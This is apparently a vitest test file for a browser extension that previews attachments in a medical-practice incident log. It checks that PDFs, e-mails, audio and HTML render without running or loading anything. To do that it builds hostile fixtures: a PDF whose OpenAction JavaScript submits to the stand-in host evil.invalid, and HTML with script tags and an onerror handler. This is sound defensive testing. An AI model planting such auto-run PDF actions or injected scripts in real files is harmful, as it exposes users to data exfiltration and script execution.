import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib'
import { beforeAll, describe, expect, it } from 'vitest'
import type { Tab } from './browser/driver.ts'
import { stageIn } from './stage.ts'
import { ask, clickOn, has, logPage, mainKind, passphrase, press, stage, text, until } from './start.ts'

/** Attached files are shown when asked for, as pictures, text or sound: nothing in them runs, links or loads. */

const pdfWith = async (pages: number, isHostile: boolean): Promise<Uint8Array> => {
  const pdf = await PDFDocument.create()
  const font = await pdf.embedFont(StandardFonts.Helvetica)
  for (let n = 1; n <= pages; n++) {
    const page = pdf.addPage([595, 842])
    page.drawText(`Letter from Robin Sample, sheet ${n}`, { x: 50, y: 780, size: 22, font })
  }
  if (!isHostile) return pdf.save()
  const evil = "app.alert('run'); this.submitForm('https://evil.invalid/')"
  pdf.addJavaScript('evil', evil)
  const script = { Type: 'Action', S: 'JavaScript', JS: PDFString.of(evil) }
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj(script))
  const link = {
    ...{ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], Border: [0, 0, 2] },
    A: { Type: 'Action', S: 'URI', URI: PDFString.of('https://evil.invalid/') },
  }
  pdf
    .getPage(0)
    .node.set(PDFName.of('Annots'), pdf.context.obj([pdf.context.register(pdf.context.obj(link))]))
  return pdf.save()
}

const mail = [
  'From: Robin Sample <robin@sample.invalid>',
  'To: doctor@practice.invalid',
  'Date: Tue, 24 Nov 2026 23:58:01 +0000',
  'Subject: I know <b>where</b> you live',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<p>Hello <b>you</b></p><script>globalThis.ran = true</script><img src="https://evil.invalid/x.png" onerror="globalThis.ran = true"><a href="https://evil.invalid">Click</a>',
].join('\r\n')

/** A tenth of a second of a quiet tone, 8 bits, 8 kHz. */
const wav = () => {
  const bytes = Buffer.alloc(44 + 800)
  bytes.write('RIFF', 0).toString()
  bytes.writeUInt32LE(36 + 800, 4)
  bytes.write('WAVEfmt ', 8)
  bytes.writeUInt32LE(16, 16)
  bytes.writeUInt16LE(1, 20)
  bytes.writeUInt16LE(1, 22)
  bytes.writeUInt32LE(8000, 24)
  bytes.writeUInt32LE(8000, 28)
  bytes.writeUInt16LE(1, 32)
  bytes.writeUInt16LE(8, 34)
  bytes.write('data', 36)
  bytes.writeUInt32LE(800, 40)
  for (let i = 0; i < 800; i++) bytes[44 + i] = 128 + Math.round(20 * Math.sin(i / 3))
  return bytes
}

const attached = (importedAs: string, type: string, bytes: Uint8Array | string) => ({
  importedAs,
  type,
  bytes: Buffer.from(bytes),
})

const shown = (page: Tab, name: string) =>
  clickOn(
    page,
    `[...document.querySelectorAll('button')].find((b) => b.textContent.includes('Show ${name}'))`,
  )

/** Dark dots on the page's canvas: something was drawn. */
const ink = (page: Tab) =>
  page.evaluate<number>(`(() => {
    const canvas = document.querySelector('canvas')
    const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height)
    let dark = 0
    for (let at = 0; at < data.length; at += 4) if (data[at] + data[at + 1] + data[at + 2] < 200 && data[at + 3] > 0) dark++
    return dark
  })()`)

describe.each(mainKind)('an attached file in %s', (kind) => {
  const at = stage(kind)
  let log: Tab

  beforeAll(async () => {
    log = await at.driver.openExtensionPage(logPage)
    await ask(log, 'setPassphrase', { passphrase })
    const files = [
      attached('letter.pdf', 'application/pdf', await pdfWith(60, true)),
      attached('broken.pdf', 'application/pdf', (await pdfWith(1, false)).slice(0, 300)),
      attached('mail.eml', 'message/rfc822', mail),
      attached('voice.wav', 'audio/wav', wav()),
      attached('page.html', 'text/html', '<script>globalThis.ran = true</script>'),
    ]
    const staged = []
    for (const file of files) staged.push(await stageIn(log, file))
    const event = {
      type: 'letter',
      eventPrecision: 'unknown',
      where: 'Surgery',
      whatHappened: 'Five files came.',
    }
    const saved = await ask(log, 'record', { requestId: crypto.randomUUID(), event, attachments: staged })
    expect(saved).toMatchObject({ status: 'saved' })
    await until(log, has('voice.wav'))
    // Whatever a file might do, it would be seen here.
    await log.evaluate(`addEventListener('securitypolicyviolation', (e) => {
      (globalThis.violations ??= []).push(e.violatedDirective + ' ' + e.blockedURI)
    })`)
  })

  it('is shown to nobody unasked, and only where it can be shown without running it', async () => {
    expect(await log.evaluate(`document.querySelectorAll('canvas, audio, .preview').length`)).toBe(0)
    const names = await log.evaluate<string[]>(
      `[...document.querySelectorAll('button')].map((b) => b.textContent).filter((name) => name.startsWith('Show '))`,
    )
    expect(names).toEqual(['Show letter.pdf', 'Show broken.pdf', 'Show mail.eml', 'Show voice.wav'])
  })

  it('that is a PDF is drawn page by page, with its words for those who hear it, and nothing to click', async () => {
    await shown(log, 'letter.pdf')
    await until(log, `document.querySelector('canvas[data-drawn]') !== null`, 40_000)
    expect(await ink(log)).toBeGreaterThan(500)
    expect(await log.evaluate(`document.querySelector('canvas').getAttribute('aria-label')`)).toBe(
      'Page 1 of 60 of letter.pdf',
    )
    await until(
      log,
      `document.querySelector('.preview').textContent.includes('Letter from Robin Sample, sheet 1')`,
    )
    expect(await log.evaluate(`document.querySelectorAll('.preview a, .preview input').length`)).toBe(0)
    expect(await log.evaluate(`document.querySelectorAll('canvas').length`)).toBe(50)
    expect(await log.evaluate<string>(text)).toContain('The first 50 of 60 pages are shown.')
    // Those far below wait until somebody comes to them.
    expect(await log.evaluate(`document.querySelectorAll('canvas')[40].hasAttribute('data-drawn')`)).toBe(
      false,
    )
    await press(log, 'Hide letter.pdf')
    await until(log, `document.querySelector('canvas') === null`)
  })

  it('that is broken says calmly that it cannot be shown', async () => {
    await shown(log, 'broken.pdf')
    await until(log, has('This file cannot be shown here. It is kept all the same'))
    await press(log, 'Hide broken.pdf')
  })

  it('that is an e-mail is shown as text', async () => {
    await shown(log, 'mail.eml')
    await until(log, has('Hello you'))
    const said = await log.evaluate<string>(text)
    for (const words of [
      'Robin Sample <robin@sample.invalid>',
      'I know <b>where</b> you live',
      '23:58:01 +0000',
    ])
      expect(said).toContain(words)
    expect(await log.evaluate(`document.querySelectorAll('.preview :is(a, img, script, b)').length`)).toBe(0)
    await press(log, 'Hide mail.eml')
  })

  it('that is a recording can be played', async () => {
    await shown(log, 'voice.wav')
    await until(log, `document.querySelector('audio')?.readyState >= 1`)
    expect(await log.evaluate<number>(`document.querySelector('audio').duration`)).toBeCloseTo(0.1, 2)
    expect(await log.evaluate(`document.querySelector('audio').paused`)).toBe(true)
  })

  it('has run nothing and reached for nothing', async () => {
    expect(await log.evaluate(`globalThis.ran ?? 'nothing'`)).toBe('nothing')
    // Chromium reports the handlers of an e-mail that is only parsed, though nothing would ever have called them.
    const harmless = 'script-src-attr inline'
    const stopped = await log.evaluate<string[]>(`globalThis.violations ?? []`)
    expect(stopped.filter((violation) => violation !== harmless)).toEqual([])
  })
})
